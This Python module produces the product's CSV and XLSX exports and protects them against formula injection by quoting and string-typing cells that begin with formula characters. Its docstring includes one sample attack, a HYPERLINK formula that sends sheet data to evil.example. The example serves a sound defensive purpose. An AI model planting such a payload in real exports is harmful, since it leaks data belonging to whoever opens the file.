"""The one writer of every CSV and XLSX file the product hands out (jury results, audit
log, import templates): cells a spreadsheet would run as a formula are neutralised.

A value starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is what
Excel, LibreOffice and Google Sheets take for a formula (CSV/formula injection: a candidate
named ``=HYPERLINK("http://evil.example/?leak="&A1;"Voir")`` would leak the sheet on a
click).

- **CSV:** such a text cell is prefixed with ``'`` (OWASP's advice); ``;``-separated,
  UTF-8 with a BOM (Excel opens it in French without an import wizard).
- **XLSX:** every text is written as a string cell (``data_type = "s"``), never a formula
  — openpyxl would otherwise store ``=…`` as one — and those starting like a formula carry
  the ``quotePrefix`` style, so editing the cell does not turn it into one either; the text
  itself is kept as it is. Dates and numbers stay typed.
"""

import csv
import datetime
import decimal
import io
from collections.abc import Iterable, Iterator

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
BOM = "\ufeff"


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def csv_cell(value) -> str:
    """A CSV cell: dates the French way, ``None`` empty, formula-like text quoted."""
    if value is None:
        text = ""
    elif isinstance(value, datetime.datetime):
        text = value.strftime("%d/%m/%Y %H:%M")
    elif isinstance(value, datetime.date):
        text = value.strftime("%d/%m/%Y")
    else:
        text = str(value)
    return "'" + text if looks_like_formula(text) else text


class _Echo:
    def write(self, value):
        return value


def csv_lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """The lines of a CSV file, one at a time (for a ``StreamingHttpResponse``); the first
    starts with the BOM."""
    writer = csv.writer(_Echo(), delimiter=";")
    yield BOM + writer.writerow([csv_cell(c) for c in header])
    for row in rows:
        yield writer.writerow([csv_cell(c) for c in row])


def csv_bytes(header: Iterable, rows: Iterable[Iterable]) -> bytes:
    return "".join(csv_lines(header, rows)).encode("utf-8")


def xlsx_sheet(sheet, rows: Iterable[Iterable], *, start_row: int = 1) -> None:
    """Write ``rows`` into an openpyxl worksheet from ``start_row``, texts as strings."""
    for r, row in enumerate(rows, start=start_row):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c)
            if value is None:
                continue
            if isinstance(value, str):
                cell.value = value
                cell.data_type = "s"  # never "f": a text is not a formula
                if looks_like_formula(value):
                    cell.quotePrefix = True
            elif isinstance(value, int | float | decimal.Decimal | datetime.date | datetime.time):
                cell.value = value
            else:  # lazy translations, decimals, anything else: its text
                xlsx_text = str(value)
                cell.value = xlsx_text
                cell.data_type = "s"
                if looks_like_formula(xlsx_text):
                    cell.quotePrefix = True


def new_workbook():
    from openpyxl import Workbook

    return Workbook()


def xlsx_bytes(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
